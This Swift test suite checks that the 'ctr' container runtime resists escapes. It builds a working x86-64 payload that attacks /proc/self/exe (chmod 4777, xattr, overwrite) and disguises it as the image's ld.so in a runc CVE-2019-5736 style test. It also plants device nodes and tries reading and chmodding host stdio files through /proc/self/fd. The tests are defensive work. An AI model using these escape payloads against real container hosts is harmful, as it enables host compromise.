import CSysShims
import Foundation
import Testing

/// Attacks from the field's CVEs, tried against ctr as a user would meet them: rootless and as root.
@Suite(.serialized) struct EscapeTests {
    static let modes: [Who] = [.rootless, .root]

    func prepared(_ who: Who) throws -> Workspace? {
        guard who.available, TestEnv.haveBusybox else { print("skip \(who): \(TestEnv.setupHint)"); return nil }
        let w = try Workspace(who)
        try w.makeHome()
        return w
    }

    /// A hostile "ld.so": freestanding x86-64 code that, whatever binary the kernel loaded it for,
    /// reports what /proc/self/exe names and attacks it (chmod 4777, an xattr, open for writing).
    static let payload = #"""
    static long sc(long n, long a, long b, long c, long d) {
        register long r10 __asm__("r10") = d;
        register long r8 __asm__("r8") = 0;
        long r;
        __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
        return r;
    }
    static void say(const char *s) { long n = 0; while (s[n]) n++; sc(1, 1, (long)s, n, 0); }
    static void num(long v) { char b[24]; int i = 23; b[i] = 0; int neg = v < 0; if (neg) v = -v;
        do { b[--i] = '0' + v % 10; v /= 10; } while (v); if (neg) b[--i] = '-'; say(b + i); }
    void __attribute__((used)) attack(void) {
        char exe[256];
        long n = sc(89, (long)"/proc/self/exe", (long)exe, sizeof exe - 1, 0);
        exe[n > 0 ? n : 0] = 0;
        say("PAYLOAD exe="); say(exe);
        say(" chmod="); num(sc(90, (long)"/proc/self/exe", 04777, 0, 0));
        say(" setxattr="); num(sc(188, (long)"/proc/self/exe", (long)"user.pwned", (long)"1", 1));
        long fd = sc(2, (long)"/proc/self/exe", 01, 0, 0);
        say(" open_w="); num(fd);
        if (fd >= 0) { say(" write="); num(sc(1, fd, (long)"PWNED", 5, 0)); }
        say("\n");
        sc(231, 0, 0, 0, 0);
    }
    __asm__(".text\n.global _start\n_start:\n\tand $-16,%rsp\n\tcall attack\n\thlt\n");
    """#

    /// The interpreter ctr's binary asks for (PT_INTERP), read with readelf.
    static func interpreter(of binary: String) throws -> String? {
        let r = try Workspace.exec("/usr/bin/readelf", ["-lW", binary])
        for line in r.stdout.split(separator: "\n") where line.contains("Requesting program interpreter:") {
            if let s = line.range(of: ": "), let e = line.lastIndex(of: "]") { return String(line[s.upperBound..<e]) }
        }
        return nil
    }

    /// The binary's bytes, mode and xattrs: what the attack must not change.
    static func fingerprint(_ path: String) -> String {
        var st = stat()
        guard stat(path, &st) == 0, let data = FileManager.default.contents(atPath: path) else { return "missing" }
        // the xattrs the payload sets, and the one that would give the binary capabilities
        let fd = open(path, O_RDONLY | O_CLOEXEC)
        defer { if fd >= 0 { close(fd) } }
        var buf = [UInt8](repeating: 0, count: 256)
        let xattrs = ["user.pwned", "security.capability"].map { "\($0)=\(csys_fgetxattr(fd, $0, &buf, buf.count))" }.joined(separator: " ")
        var h = Hasher()
        h.combine(data)
        return "size \(data.count) hash \(h.finalize()) mode \(String(st.st_mode & 0o7777, radix: 8)) owner \(st.st_uid) xattrs [\(xattrs)]"
    }

    /// runc CVE-2019-5736: an image whose command is `#!/proc/self/exe` must not get the kernel
    /// to run the host's ctr inside the container (where the image's ld.so would run with the
    /// binary open). Through run, run --init, exec and a build's RUN; the user's own copy of
    /// the binary (rootless: the user owns it, so a container root mapped to the user could
    /// chmod it) keeps its bytes, mode and xattrs.
    @Test(arguments: modes)
    func procSelfExeCannotReachTheBinary(_ who: Who) throws {
        #if !arch(x86_64)
        print("skip: the hostile payload is x86-64 code")
        return
        #else
        guard let w = try prepared(who) else { return }
        guard TestEnv.have("gcc"), TestEnv.have("readelf") else { print("skip: gcc and readelf (build-essential) are needed for the payload"); return }
        guard let interp = try Self.interpreter(of: TestEnv.binary) else {
            print("skip: \(TestEnv.binary) has no program interpreter (a static binary cannot load the image's ld.so)")
            return
        }
        // the user's own copy of ctr, as a user who installed it in ~/bin has it
        let bin = "\(w.dir)/bin/ctr"
        expectOK(try w.bash("mkdir -p bin && cp \(TestEnv.binary) bin/ctr && chmod 0755 bin/ctr"))
        func ctr(_ args: [String]) throws -> RunResult {
            try w.sh([bin] + args, env: ["CTR_ROOT": w.store, "HOME": w.home, "XDG_RUNTIME_DIR": "\(w.dir)/run"])
        }
        // the hostile image: busybox, the payload as /payload and as the interpreter ctr asks for
        try Data(Self.payload.utf8).write(to: URL(fileURLWithPath: "\(w.dir)/payload.c"))
        let cc = try Workspace.exec("/usr/bin/gcc", ["-Os", "-nostdlib", "-static-pie", "-fPIE", "-ffreestanding", "-fno-stack-protector",
                                                     "-fcf-protection=none", "-Wl,--no-dynamic-linker", "-o", "\(w.dir)/payload", "\(w.dir)/payload.c"])
        expectOK(cc, "gcc payload")
        expectOK(try w.bash("""
            set -e
            mkdir -p img && tar -C img -xf \(TestEnv.busyboxTar)
            mkdir -p "img$(dirname \(interp))" && cp payload "img\(interp)" && cp payload img/payload
            printf '#!/proc/self/exe\\n' > img/evil.sh && chmod 0755 img/evil.sh img/payload "img\(interp)"
            """))
        expectOK(try ctr(["import", "--tag", "evil:1", "\(w.dir)/img"]))
        let before = Self.fingerprint(bin)

        // the payload works: run as a command, it attacks its own file
        let direct = try ctr(["run", "--rm", "--network", "none", "evil:1", "/payload"])
        #expect(direct.stdout.hasPrefix("PAYLOAD exe=/payload chmod=0"), "the payload runs: \(direct)")

        var attempts: [(String, RunResult)] = []
        attempts.append(("run", try ctr(["run", "--rm", "--network", "none", "evil:1", "/evil.sh"])))
        attempts.append(("run --init", try ctr(["run", "--rm", "--network", "none", "--init", "evil:1", "/evil.sh"])))
        expectOK(try ctr(["run", "-d", "--name", "victim", "--network", "none", "evil:1", "sleep", "60"]))
        attempts.append(("exec", try ctr(["exec", "victim", "/evil.sh"])))
        expectOK(try ctr(["rm", "-f", "victim"]))
        expectOK(try w.bash("mkdir -p ctx && printf 'FROM evil:1\\nRUN [\"/evil.sh\"]\\n' > ctx/Dockerfile"))
        attempts.append(("build RUN", try ctr(["build", "--network", "none", "-t", "evil:2", "\(w.dir)/ctx"])))
        for (what, r) in attempts {
            #expect(!r.stdout.contains("PAYLOAD") && !r.stderr.contains("PAYLOAD"), "\(what): the image's code ran with ctr as /proc/self/exe: \(r)")
            #expect(r.status != 0, "\(what): #!/proc/self/exe cannot start anything: \(r)")
        }
        #expect(Self.fingerprint(bin) == before, "the ctr binary was changed from inside a container")
        #endif
    }

    /// As root, device nodes shipped in an image (or in a volume) do not open: the root and the
    /// volumes are mounted nodev, and where cgroup v1 has a devices controller, only the
    /// container's own /dev nodes open even with CAP_MKNOD. `ctr unpack` leaves no device node
    /// that others may open, and says so.
    @Test func deviceNodesOfTheImageDoNotWork() throws {
        guard let w = try prepared(.root) else { return }
        expectOK(try w.bash("""
            set -e
            mkdir -p img vol && tar -C img -xf \(TestEnv.busyboxTar) && mkdir img/mydev
            mknod -m 0666 img/mydev/zero c 1 5 && mknod -m 0666 img/mydev/hwrng c 10 183
            mknod -m 0666 img/mydev/loop0 b 7 0 && mknod -m 0666 img/mydev/kvm c 10 232
            mknod -m 0666 vol/zero c 1 5
            """))
        expectOK(try w.ctrHome(["import", "--tag", "devices:1", "\(w.dir)/img"]))
        // each line: NAME opened|refused (the shell's redirection opens it)
        let probe = "for d in /mydev/zero /mydev/hwrng /mydev/loop0 /mydev/kvm /vol/zero; do (exec 3<$d) 2>/dev/null && echo \"$d opened\" || echo \"$d refused\"; done; (exec 3</dev/zero) && echo own-dev-ok"
        let r = try w.ctrHome(["run", "--rm", "--network", "none", "-v", "\(w.dir)/vol:/vol", "devices:1", "sh", "-c", probe])
        #expect(r.lines == ["/mydev/zero refused", "/mydev/hwrng refused", "/mydev/loop0 refused", "/mydev/kvm refused",
                            "/vol/zero refused", "own-dev-ok"], "\(r)")
        // a node made inside with CAP_MKNOD, on the container's own /dev: the devices cgroup
        if access("/sys/fs/cgroup/devices/devices.allow", W_OK) == 0 {
            let mk = try w.ctrHome(["run", "--rm", "--network", "none", "--cap-add", "MKNOD", "devices:1", "sh", "-c",
                                    "mknod /dev/l0 b 7 0 && mknod /dev/z2 c 1 5 && ((exec 3</dev/l0) 2>/dev/null && echo loop-opened || echo loop-refused); (exec 3</dev/z2) && echo zero-ok"])
            #expect(mk.lines == ["loop-refused", "zero-ok"], "\(mk)")
        } else {
            print("skip the devices cgroup check: no writable cgroup v1 devices hierarchy here")
        }
        let out = try w.ctrHome(["unpack", "devices:1", "\(w.dir)/out"])
        expectOK(out)
        #expect(out.stderr.contains("4 device node(s) made mode 0600"), "\(out)")
        for n in ["zero", "hwrng", "loop0", "kvm"] {
            let st = w.stat("\(w.dir)/out/rootfs/mydev/\(n)")
            #expect(st != nil && st!.st_mode & 0o077 == 0, "\(n): \(String(st?.st_mode ?? 0, radix: 8))")
        }
    }

    /// A file of the host given as stdio (`ctr run … >> out.txt`, `< in.txt`) is not the
    /// container's: it gets pipes that ctr copies, so it can neither read what the file held
    /// before through /proc/self/fd nor chmod it. Through run and exec.
    @Test(arguments: modes)
    func hostFilesGivenAsStdioStayTheHosts(_ who: Who) throws {
        guard let w = try prepared(who) else { return }
        expectOK(try w.ctrHome(["import", "--tag", "busybox:local", TestEnv.busyboxTar]))
        let ctr = "HOME=\(w.home) XDG_RUNTIME_DIR=\(w.dir)/run CTR_ROOT=\(w.store) \(TestEnv.binary)"
        // what the container tries: reopen its stdout and stdin (read the earlier content, write,
        // chmod), then print normally
        let attack = "exec 3< /proc/$$/fd/1; timeout 1 sed -n 1p <&3 >&2; exec 3<&-; chmod 0666 /proc/self/fd/1 /proc/self/fd/0; echo OVERWRITE > /proc/self/fd/0; cat; echo done"
        let r = try w.bash("""
            printf 'secret-before\n' > out.txt && printf 'input\n' > in.txt && chmod 0600 out.txt in.txt
            \(ctr) run --rm --network none -i busybox:local sh -c '\(attack)' >> out.txt < in.txt 2> err.txt
            echo "status $?"
            stat -c '%a' out.txt in.txt; cat in.txt; grep -c secret out.txt err.txt; tail -1 out.txt
            """)
        // (what it wrote to its stdin went into its own pipe, not into in.txt)
        #expect(r.lines == ["status 0", "600", "600", "input", "out.txt:1", "err.txt:0", "done"], "\(r)")
        // exec: the same for a process started in a running container
        expectOK(try w.ctrHome(["run", "-d", "--name", "stdio", "--network", "none", "busybox:local", "sleep", "60"]))
        let e = try w.bash("""
            printf 'secret-before\n' > exec.txt && chmod 0600 exec.txt
            \(ctr) exec stdio sh -c 'exec 3< /proc/$$/fd/1; timeout 1 sed -n 1p <&3 >&2; exec 3<&-; chmod 0666 /proc/self/fd/1; echo done' >> exec.txt 2> err2.txt
            echo "status $?"; stat -c '%a' exec.txt; cat exec.txt; grep -c secret err2.txt
            """)
        #expect(e.lines == ["status 0", "600", "secret-before", "done", "0"], "\(e)")
        expectOK(try w.ctrHome(["rm", "-f", "stdio"]))
    }

    /// An exec into a container started with --init (its pid 1 is ctr's init) works rootless too.
    @Test(arguments: modes)
    func execIntoAnInitContainer(_ who: Who) throws {
        guard let w = try prepared(who) else { return }
        expectOK(try w.ctrHome(["import", "--tag", "busybox:local", TestEnv.busyboxTar]))
        expectOK(try w.ctrHome(["run", "-d", "--init", "--name", "withinit", "--network", "none", "busybox:local", "sleep", "60"]))
        let r = try w.ctrHome(["exec", "withinit", "sh", "-c", "cat /proc/1/comm; echo ok"])
        #expect(r.status == 0 && r.lines == ["ctr-init", "ok"], "\(r)")
        expectOK(try w.ctrHome(["rm", "-f", "withinit"]))
    }
}

/// The exec stub ctr embeds (Sources/CSysShims/csys_exec_stub_blob.c) is the one its source builds.
@Suite struct ExecStubBlobTests {
    @Test func blobMatchesItsSource() throws {
        guard TestEnv.have("gcc") else { print("skip: gcc (build-essential) is needed to rebuild the exec stub"); return }
        let pkg = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().path
        let out = NSTemporaryDirectory() + "ctr-stub-\(getpid())"
        defer { unlink(out) }
        let r = try Workspace.exec("/bin/bash", ["\(pkg)/scripts/gen-exec-stub.sh", "--print", out])
        #expect(r.status == 0, "\(r)")
        let built = try Data(contentsOf: URL(fileURLWithPath: out))
        let blob = try String(contentsOfFile: "\(pkg)/Sources/CSysShims/csys_exec_stub_blob.c", encoding: .utf8)
        var bytes: [UInt8] = []
        for tok in blob.split(whereSeparator: { $0 == "," || $0 == " " || $0 == "\n" }) where tok.hasPrefix("0x") && tok.count == 4 {
            bytes.append(UInt8(tok.dropFirst(2), radix: 16)!)
        }
        #expect(bytes == [UInt8](built), "csys_exec_stub_blob.c is stale: run scripts/gen-exec-stub.sh")
    }
}
